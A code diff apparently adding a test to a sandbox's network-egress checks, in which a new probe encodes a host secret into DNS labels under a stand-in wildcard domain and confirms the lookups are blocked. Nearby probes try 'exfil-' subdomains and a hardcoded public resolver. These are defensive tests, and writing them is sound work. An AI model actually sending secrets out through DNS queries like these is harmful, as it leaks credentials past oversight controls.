@@ -30,6 +30,17 @@ if MODE == "main":
     def _():
         return dns_blocked("exfil-" + SECRET[:8].lower() + ".example.com", "A")
 
+    @probe("dns_secret_in_labels")
+    def _():
+        # The host secret in labels short enough for the shape checks,
+        # under an allowed wildcard, as it is and in lower case (a name's
+        # case does not survive the trip upstream anyway).
+        out = []
+        for s in (SECRET, SECRET.lower()):
+            labels = ".".join(s[i:i + 13] for i in range(0, len(s), 13))
+            out.append(dns_blocked(f"{labels}.tunnel.bottle.test", "A"))
+        return " ".join(out)
+
     @probe("dns_hardcoded_resolver_udp")
     def _():
         return expect_errno(udp_to(("8.8.8.8", 53), data=b"\0" * 12))
